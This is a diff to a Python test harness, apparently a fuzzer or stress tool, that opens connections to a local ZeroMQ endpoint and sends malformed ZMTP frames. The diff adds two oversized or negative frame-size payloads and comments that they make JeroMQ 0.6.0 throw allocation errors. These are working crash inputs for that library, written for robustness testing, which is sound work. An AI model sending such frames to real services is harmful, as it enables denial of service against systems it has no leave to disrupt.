@@ -11,6 +11,10 @@ Each attacking connection uses one of these payloads, round-robin (--kinds selec
   huge62      a valid ZMTP 3.0 NULL greeting, then a frame claiming 2^62 bytes
   huge100m    a valid greeting, then a frame claiming 100 MB (and 64 KB of it)
   hugecmd     a valid greeting, then a command frame claiming 2^31-1 bytes
+  negsize     a valid greeting, then a frame whose 64-bit size has the top bit set and is -16
+              as a Java long (JeroMQ 0.6.0 passes it to its allocator: NegativeArraySizeException)
+  neg2g       a valid greeting, then a frame claiming 2^63 + 2^31 - 2^20: negative as a long,
+              2 GB - 1 MB once JeroMQ casts it to int
   badflags    a valid greeting, then frames with reserved flag bits set
   badversion  a greeting with major version 0x7f, then garbage
   badmech     a greeting naming an unknown mechanism "EVIL"
@@ -51,8 +55,8 @@ import threading
 import time
 
 HOST = "127.0.0.1"
-KINDS = ["random", "blob", "huge62", "huge100m", "hugecmd", "badflags", "badversion", "badmech",
-         "postready"]
+KINDS = ["random", "blob", "huge62", "huge100m", "hugecmd", "negsize", "neg2g", "badflags", "badversion",
+         "badmech", "postready"]
 
 
 def out(*parts):
@@ -92,6 +96,10 @@ def payload(kind, rng, blob_mb):
         return greeting() + large_frame(0x00, 100 * 1024 * 1024) + rng.randbytes(65536)
     if kind == "hugecmd":
         return greeting() + large_frame(0x04, (1 << 31) - 1) + rng.randbytes(1024)
+    if kind == "negsize":
+        return greeting() + large_frame(0x00, (1 << 64) - 16) + rng.randbytes(1024)
+    if kind == "neg2g":
+        return greeting() + large_frame(0x00, (1 << 63) + (1 << 31) - (1 << 20)) + rng.randbytes(1024)
     if kind == "badflags":
         return greeting() + bytes([0xf8, 0x05]) + b"READY" + bytes([0xfd, 0x01, 0x00]) + rng.randbytes(512)
     if kind == "badversion":
